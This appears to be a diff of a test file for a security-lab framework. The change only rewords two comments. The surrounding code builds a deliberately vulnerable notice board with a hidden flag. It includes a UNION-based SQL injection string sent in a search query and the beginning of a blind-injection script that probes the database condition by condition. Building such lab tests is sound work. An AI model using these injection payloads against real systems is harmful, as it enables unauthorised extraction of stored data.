@@ -9,7 +9,7 @@ import { verifyLab } from './verify.ts';
 const FLAG = 'flag{the-real-one}';
 const get = (url: string): LabLogRequest => ({ method: 'GET', url, headers: {}, body: '' });
 
-/** A notice board whose search shows every row to those who ask in SQL. */
+/** A notice board whose search shows every row to an SQL injection. */
 function buildAttackLab(id: string, goal: NonNullable<LabPack['goal']>, routes: string): LoadedLab {
   const sql =
     "CREATE TABLE notes (text TEXT, secret INT); INSERT INTO notes VALUES ('open', 0), ('{{flag}}', 1);";
@@ -53,7 +53,7 @@ const byScript = buildAttackLab(
   BLIND,
 );
 const UNION = get(`/?q=${encodeURIComponent("x' UNION SELECT text FROM notes WHERE secret = 1 --")}`);
-/** One question at a time, as long as it takes. */
+/** One query at a time, as long as it takes. */
 const SCRIPT = `
 const me = client();
 const yes = async (condition) => (await me.get('/?q=' + encodeURIComponent("open' AND " + condition + " --"))).body === 'yes';
